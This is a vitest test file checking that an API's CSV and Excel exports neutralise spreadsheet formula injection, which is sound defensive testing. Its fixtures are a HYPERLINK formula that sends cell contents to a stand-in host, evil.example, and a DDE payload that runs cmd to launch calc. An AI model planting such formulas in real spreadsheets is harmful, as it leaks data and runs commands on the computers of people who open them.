// Every CSV and Excel export neutralises text a spreadsheet would run as a formula (here an intention's
// title and measure, typed by a user), and leaves numbers as numbers.
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Workspace } from '../../../src/data/workspace.ts';
import { buildApp } from '../../../src/server/app.ts';
import { type SignedInClient, signIn } from './support/api-client.ts';
import { createApiWorkspace } from './support/api-workspace.ts';

const TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
const MEASURE = '@SUM(1+1)*cmd|" /C calc"!A0';

let ws: Workspace;
let app: FastifyInstance;
let editor: SignedInClient;

beforeAll(async () => {
  ws = await createApiWorkspace(2_000);
  app = await buildApp({ workspace: ws, signInRateLimit: { max: 1000, timeWindowMs: 60_000 } });
  editor = await signIn(app, 'qweEditor');
  const provider = await ws.one<{ code: string }>(
    "SELECT provider_code AS code FROM provider WHERE host_icb = 'QWE' AND kind = 'nhs-trust' ORDER BY provider_code LIMIT 1",
  );
  const service = await ws.one<{ code: string }>(
    'SELECT service_code AS code FROM service WHERE is_current ORDER BY service_code LIMIT 1',
  );
  for (const [url, payload] of [
    [
      '/api/assurance/intentions',
      { title: TITLE, ownerName: '+44 20 7946 0000', measure: MEASURE, financialYear: '2017/18' },
    ],
    [
      '/api/assurance/contracts',
      {
        providerCode: provider!.code,
        financialYear: '2017/18',
        type: 'single-provider',
        services: [{ serviceCode: service!.code, value: '1250.50' }],
      },
    ],
  ] as const) {
    const made = await app.inject({ method: 'POST', url, headers: editor.change, payload });
    if (made.statusCode !== 201) throw new Error(made.body);
  }
});

afterAll(async () => {
  await app.close();
  ws.close();
});

describe('formula injection', () => {
  it('CSV: the title and measure start with a quote; the text is otherwise as typed', async () => {
    const csv = await app.inject({ method: 'GET', url: '/api/assurance/intentions?format=csv', headers: editor.read });
    expect(csv.statusCode).toBe(200);
    const body = csv.body;
    expect(body).toContain(`"'${TITLE.replaceAll('"', '""')}"`);
    expect(body).toContain(`"'${MEASURE.replaceAll('"', '""')}"`);
    expect(body).toContain("'+44 20 7946 0000");
    for (const line of body.split('\r\n').slice(1)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=@]/);
    }
  });

  /** The values of the first data row of the first sheet of a route's workbook. */
  const firstRow = async (url: string) => {
    const xlsx = await app.inject({ method: 'GET', url, headers: editor.read });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    return book.worksheets[0]!.getRow(2).values as unknown[];
  };

  it('Excel: the same cells are text with the quote; a number stays a number', async () => {
    const values = await firstRow('/api/assurance/intentions?format=xlsx');
    expect(values).toContain(`'${TITLE}`);
    expect(values).toContain(`'${MEASURE}`);
    for (const v of values) expect(typeof v === 'object' && v !== null && 'formula' in v).toBe(false);
    expect(await firstRow('/api/assurance/contracts?format=xlsx')).toContain(1250.5);
  });
});
